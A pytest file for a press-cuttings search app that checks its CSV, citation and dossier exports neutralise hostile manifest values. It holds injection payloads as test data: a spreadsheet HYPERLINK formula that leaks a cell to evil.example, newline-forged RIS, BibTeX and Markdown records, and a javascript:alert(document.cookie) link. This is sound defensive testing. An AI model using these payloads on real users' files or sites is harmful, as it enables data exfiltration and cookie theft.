"""What people open elsewhere, from a hostile corpus (issue 35, points 8 and 9): CSV cells
a spreadsheet would run, line breaks that forge a citation record or a dossier heading,
``javascript:`` archive links, and collection names beyond Latin-1 in a download's name,
read back by the parsers that open them and served by the real server (gunicorn)."""

from __future__ import annotations

import csv
import io
import json
import os
import socket
import subprocess
import sys
import time
import zipfile
from email.message import Message
from email.utils import collapse_rfc2231_value
from urllib.error import HTTPError, URLError
from urllib.request import Request, urlopen

import bibtexparser
import pytest
import rispy
from bs4 import BeautifulSoup
from markdown_it import MarkdownIt

from core.settings import Settings
from indexer import build
from search.results import SearchRequest
from search.service import SearchService
from webapp import create_app

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
FORGED_TITLE = ("Ministers meet\nER  - \nTY  - JOUR\nTI  - Forged record\n@misc{forged,\n"
                "Forged heading\n---")
FORGED_OUTLET = "@SUM(1+1)\r\n# Forged outlet heading"
FORGED_AUTHOR = "Ann Writer\nAU  - Forged Author"
TEXT = ("Ministers of the Caspian states met in Baku on Monday to discuss the pipeline.\n\n"
        "The talks ended without an agreement, officials said on Tuesday evening.\n")
NAMES = ["Əli Kərimli", "Türkiyə", "Қазақстан"]
EXPORTS = ["bibtex", "ris", "csl-json", "markdown", "html", "zip"]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """An index of one article whose manifest carries a formula, line breaks and a
    ``javascript:`` archive link, and of one whose archive link is a real one."""
    corpus = tmp_path_factory.mktemp("hostile") / "corpus"
    corpus.mkdir()
    (corpus / "forged.txt").write_text(TEXT, encoding="utf-8")
    (corpus / "kept.txt").write_text(TEXT.replace("Baku", "Aktau"), encoding="utf-8")
    with (corpus / "sources.csv").open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["file", "url", "outlet", "title", "date", "language", "authors",
                         "archived_url"])
        writer.writerow(["forged.txt", "https://news.example/a", FORGED_OUTLET,
                         f"{FORMULA}\n{FORGED_TITLE}", "2022-01-07", "en", FORGED_AUTHOR,
                         "javascript:alert(document.cookie)"])
        writer.writerow(["kept.txt", "https://news.example/b", "Caspian Wire", "Talks in Aktau",
                         "2022-01-08", "en", "", "https://web.archive.org/web/2022/https://news.example/b"])
    index = corpus.parent / "index"
    assert build.index_corpus(corpus, index).documents == 2
    return index


@pytest.fixture()
def client(hostile, tmp_path):
    return create_app(Settings.defaults(index=hostile, corpus=hostile.parent / "corpus",
                                        collections=str(tmp_path / "c.sqlite3"))).test_client()


def forged_passage(hostile) -> str:
    [hit] = SearchService(hostile).search(SearchRequest(q="Baku")).results
    return hit.passages[0].passage_id


def test_no_csv_cell_of_an_export_or_a_batch_starts_a_formula(client):
    """OWASP's rule, read back with the csv module: every text cell that would start with
    = + - @ tab or CR starts with an apostrophe instead."""
    rows = list(csv.reader(io.StringIO(client.get("/export.csv?q=Baku").get_data(as_text=True))))
    header, [row] = rows[0], rows[1:]
    assert row[header.index("title")] == "'" + f"{FORMULA}\n{FORGED_TITLE}"
    assert row[header.index("outlet")] == "'" + FORGED_OUTLET
    batch = client.post("/batch", data={"queries": "=1+2\n@SUM(A1)\n+Baku\n-Aktau\nBaku",
                                        "format": "csv"})
    cells = [c for r in csv.reader(io.StringIO(batch.get_data(as_text=True))) for c in r]
    assert {"'=1+2", "'@SUM(A1)", "'+Baku", "'-Aktau", "Baku"} <= set(cells)
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_a_forged_title_makes_no_second_record_in_any_citation(client, hostile):
    pid = forged_passage(hostile)
    cite = lambda fmt: client.get(f"/api/cite/{pid}?format={fmt}").get_data(as_text=True)  # noqa: E731
    [record] = rispy.loads(cite("ris"))
    assert record["title"].startswith(FORMULA) and "Forged record" in record["title"]
    # One author (RIS writes it "Last, First"), the forged line's words kept inside it.
    [author] = record["authors"]
    assert sorted(author.replace(",", "").split()) == sorted(FORGED_AUTHOR.split())
    library = bibtexparser.parse_string(cite("bibtex"))
    assert len(library.entries) == 1 and not library.failed_blocks
    for fmt in ("text", "apa", "mla", "chicago"):
        assert "\n" not in cite(fmt).strip() and "\r" not in cite(fmt), fmt
    [item] = json.loads(cite("csl-json"))
    assert "\n" not in item["title"] and "\n" not in item["container-title"]


def test_an_archive_link_is_cited_only_when_it_is_http(client, hostile):
    pid = forged_passage(hostile)
    for fmt in ("text", "apa", "mla", "chicago", "bibtex", "ris", "csl-json", "annotation"):
        assert "javascript" not in client.get(f"/api/cite/{pid}?format={fmt}").get_data(as_text=True)
    service = SearchService(hostile)
    [kept] = service.search(SearchRequest(q="Aktau")).results
    [item] = json.loads(client.get(f"/api/cite/{kept.passages[0].passage_id}?format=csl-json").data)
    assert item["archive_location"] == "https://web.archive.org/web/2022/https://news.example/b"
    [forged] = service.search(SearchRequest(q="Baku")).results
    assert service.document(forged.doc_id).metadata.archived_url is None  # refused at indexing


def test_a_forged_title_makes_no_heading_of_its_own_in_a_dossier(client, hostile):
    cid = client.post("/api/collections", json={"name": "Caspian\n# Forged name"}).get_json()["id"]
    client.post(f"/api/collections/{cid}/passages",
                json={"passage_id": forged_passage(hostile), "note": "seen\n===\n- forged item"})
    export = lambda fmt: client.get(f"/api/collections/{cid}/export?format={fmt}")  # noqa: E731
    tokens = MarkdownIt("commonmark").parse(export("markdown").get_data(as_text=True))
    headings = [tokens[n + 1].content for n, t in enumerate(tokens) if t.type == "heading_open"]
    assert len(headings) == 3  # the collection, its one cutting, the sources
    # One list for the cutting (quoted, note, permalink...), one of the sources.
    assert len([t for t in tokens if t.type == "bullet_list_open"]) == 2
    [record] = rispy.loads(export("ris").get_data(as_text=True))
    assert "Forged record" in record["title"]
    page = BeautifulSoup(export("html").get_data(as_text=True), "html.parser")
    assert [h.get_text() for h in page.select("h1")] == ["Caspian # Forged name"]
    assert "\n" not in page.select_one("section.cutting h2").get_text()


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def ask(url: str, body: dict | None = None):
    """The response of the real server (an HTTPError is a response too)."""
    data = json.dumps(body).encode() if body is not None else None
    request = Request(url, data=data, headers={"Content-Type": "application/json"})
    try:
        return urlopen(request, timeout=60)
    except HTTPError as answer:
        return answer


@pytest.fixture()
def served(seed_index, tmp_path):
    """``presscut serve`` (gunicorn) on the seed index, on this machine only."""
    port = free_port()
    env = {**os.environ, "PRESSCUT_COLLECTIONS": str(tmp_path / "c.sqlite3"), "PRESSCUT_WORKERS": "1"}
    env.pop("PRESSCUT_TOKEN", None)
    server = subprocess.Popen(
        [sys.executable, "-c", "from presscut.cli import main; main()", "serve", "--index",
         str(seed_index), "--port", str(port)],
        env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    base = f"http://127.0.0.1:{port}"
    try:
        for _ in range(300):
            try:
                urlopen(base + "/api/status", timeout=5).close()
                break
            except (URLError, ConnectionError):
                time.sleep(0.1)
        yield base
    finally:
        server.terminate()
        server.wait(30)


def test_collections_named_beyond_latin1_export_in_every_format_through_gunicorn(served, seed_docs):
    passage = seed_docs["turan"].passages[1].passage_id
    for name in NAMES:
        cid = json.load(ask(f"{served}/api/collections", {"name": name}))["id"]
        ask(f"{served}/api/collections/{cid}/passages", {"passage_id": passage}).close()
        for fmt in EXPORTS:
            with ask(f"{served}/api/collections/{cid}/export?format={fmt}") as response:
                assert response.status == 200, (name, fmt)
                body = response.read()
                disposition = response.headers["Content-Disposition"]
            names = file_names(disposition)
            slug = "presscut-" + "-".join(name.lower().split())
            assert names["filename*"] == f"{slug}.{_ext(fmt)}"
            assert names["filename"].isascii() and names["filename"].endswith(f".{_ext(fmt)}")
        names = zipfile.ZipFile(io.BytesIO(body)).namelist()
        assert f"{slug}.md" in names, names


def file_names(disposition: str) -> dict[str, str]:
    """``filename`` and ``filename*`` of a Content-Disposition, as the standard library's
    email package reads them (RFC 2231, the form RFC 5987 takes)."""
    message = Message()
    message["Content-Disposition"] = disposition
    return {("filename*" if isinstance(value, tuple) else key): collapse_rfc2231_value(value)
            for key, value in message.get_params(header="content-disposition")[1:]}


def _ext(fmt: str) -> str:
    return {"bibtex": "bib", "ris": "ris", "csl-json": "json", "markdown": "md",
            "html": "html", "zip": "zip"}[fmt]


def test_the_other_downloads_are_named_as_before(client, hostile):
    pid = forged_passage(hostile)
    cite = client.get(f"/api/cite/{pid}?format=ris&download=1")
    assert file_names(cite.headers["Content-Disposition"]) == {"filename": f"presscut-{pid}-ris.ris"}
    export = client.get("/export.json?q=Baku")
    assert file_names(export.headers["Content-Disposition"]) == {"filename": "presscut-results.json"}
